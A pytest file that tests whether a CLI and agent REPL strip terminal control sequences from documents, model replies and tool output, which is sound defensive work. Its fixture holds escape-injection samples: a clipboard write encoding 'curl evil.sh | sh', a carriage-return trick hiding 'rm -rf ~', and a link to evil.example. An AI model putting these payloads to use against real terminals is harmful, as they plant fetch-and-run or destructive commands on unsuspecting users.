"""No terminal control sequence from a document, a model or an argument reaches the terminal;
``--json`` keeps the exact text."""

from __future__ import annotations

import io
import json
import random

import pytest
from cli_runner import run_cli

from genlab.terminal import json_safe, safe_text

# A stand-in for what an attacker puts in a note: window title, clipboard write, screen
# clear, terminal reset, 8-bit CSI, DCS, bell, backspace, carriage-return overwrite.
HOSTILE = {
    "osc-title-bel": "\x1b]0;owned\x07",
    "osc-title-st": "\x1b]2;owned\x1b\\",
    "osc-52-clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "osc-8-link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "csi-clear": "\x1b[2J\x1b[H",
    "csi-hide": "\x1b[8m",
    "reset": "\x1bc",
    "c1-csi": "\x9b2J",
    "c1-osc": "\x9d0;owned\x9c",
    "dcs": "\x1bPq#0;2;0;0;0#0~~@@vv@@~~\x1b\\",
    "bell": "\x07",
    "backspace": "abc\x08\x08\x08",
    "cr-overwrite": "rm -rf ~\rls",
    "nul-and-del": "a\x00b\x7fc",
    "unterminated-osc": "\x1b]0;never closed",
}

FORBIDDEN = [chr(c) for c in range(0x20) if chr(c) not in "\n\t"] + [chr(c) for c in range(0x7F, 0xA0)]


def assert_clean(text: str) -> None:
    bad = sorted({hex(ord(ch)) for ch in text if ch in FORBIDDEN})
    assert not bad, f"control characters reached the terminal: {bad} in {text!r}"


@pytest.mark.parametrize("name", list(HOSTILE))
def test_each_sequence_is_removed_and_the_text_around_it_kept(name):
    cleaned = safe_text(f"before {HOSTILE[name]} after\nnext\tline")
    assert_clean(cleaned)
    assert cleaned.startswith("before ") and cleaned.endswith("next\tline")
    assert "owned" not in cleaned.replace("\\x", "") or name in {"unterminated-osc"}


def test_fuzzed_text_never_carries_a_control_and_plain_text_is_untouched():
    rng = random.Random(1234)
    alphabet = [chr(c) for c in range(0x00, 0xA0)] + list("éü中文🎉\u200b\u00a0") + list(HOSTILE.values())
    for _ in range(3000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 40)))
        assert_clean(safe_text(text))
    for _ in range(500):
        plain = "".join(rng.choice("abc xyz\n\té中🎉[]{}\\;") for _ in range(rng.randint(0, 60)))
        assert safe_text(plain) == plain


def test_json_stays_exact():
    rng = random.Random(99)
    for _ in range(500):
        value = {"answer": "".join(chr(rng.randint(0, 0xFF)) for _ in range(rng.randint(0, 30)))}
        document = json_safe(json.dumps(value, ensure_ascii=False))
        assert_clean(document)
        assert json.loads(document) == value


def test_cli_text_output_and_errors_are_clean_and_json_is_exact(tiny_env, tmp_path, capsys):
    label = "good" + HOSTILE["osc-title-bel"] + HOSTILE["osc-52-clipboard"]
    code, out, err = run_cli(["classify", "nice food", "--labels", f"{label},bad"], capsys)
    assert code == 0, err
    assert_clean(out)
    assert "good" in out
    code, out, _ = run_cli(["classify", "nice food", "--labels", f"{label},bad", "--json"], capsys)
    assert code == 0 and label in json.loads(out)["labels"]

    missing = tmp_path / f"notes{HOSTILE['csi-clear']}{HOSTILE['osc-title-st']}.txt"
    code, out, err = run_cli(["summarize", str(missing)], capsys)
    assert code == 2 and "no such file" in err
    assert_clean(err)


def test_the_repl_shows_model_and_tool_text_cleanly():
    from langchain_core.tools import tool
    from rich.console import Console

    from genlab.agents import ChatSession, build_agent
    from genlab.agents.repl import Renderer, Repl, TerminalRenderer
    from genlab.testing import ScriptedChatModel, tool_call_message

    @tool
    def fetch(key: str) -> str:
        """Return a document's text."""
        return "doc " + HOSTILE["osc-52-clipboard"] + HOSTILE["csi-clear"] + " end"

    answer = "Here " + "".join(HOSTILE.values()) + " done"
    for make_renderer in ("plain", "terminal"):
        model = ScriptedChatModel(script=[tool_call_message("fetch", key="k" + HOSTILE["osc-title-bel"]), answer])
        session = ChatSession(build_agent(model, [fetch]), tools=[fetch])
        out, errors = io.StringIO(), io.StringIO()
        if make_renderer == "plain":
            renderer: Renderer = Renderer(out)
        else:
            renderer = TerminalRenderer(Console(file=out, force_terminal=True, width=200))
        lines = iter(["show me"])

        def read(lines=lines) -> str:
            try:
                return next(lines)
            except StopIteration:
                raise EOFError from None

        assert Repl(session, read, renderer, errors=errors).run() == 0
        shown = out.getvalue()
        assert "done" in shown and "doc" in shown
        if make_renderer == "plain":
            assert_clean(shown)
        else:  # rich draws with its own CSI codes; none of the document's may pass
            for sequence in ("\x1b]", "\x07", "\x1b[2J", "\x1bc", "\x9b", "\x9d", "\x1bP", "\x08", "\x00"):
                assert sequence not in shown, repr(sequence)


@pytest.mark.slow
def test_ask_with_a_planted_note(tmp_path, monkeypatch, capsys):
    from genlab.settings import get_settings

    monkeypatch.setenv("GENLAB_HOME", str(tmp_path / "home"))
    get_settings.cache_clear()
    note = tmp_path / "notes" / "zebra.md"
    note.parent.mkdir()
    planted = "Zebras are striped horses of the savanna." + HOSTILE["osc-title-bel"] + HOSTILE["csi-clear"]
    note.write_text(f"# Zebra facts\n\n{planted} They live in herds.\n", encoding="utf-8")
    code, _, err = run_cli(["index", str(note.parent)], capsys)
    assert code == 0, err
    code, out, err = run_cli(["ask", "What are zebras?", "--k", "2"], capsys)
    assert code == 0, err
    assert "Zebras are striped" in out
    assert_clean(out)
    code, out, err = run_cli(["ask", "What are zebras?", "--k", "2", "--json"], capsys)
    assert code == 0, err
    assert HOSTILE["osc-title-bel"] in json.loads(out)["answer"]
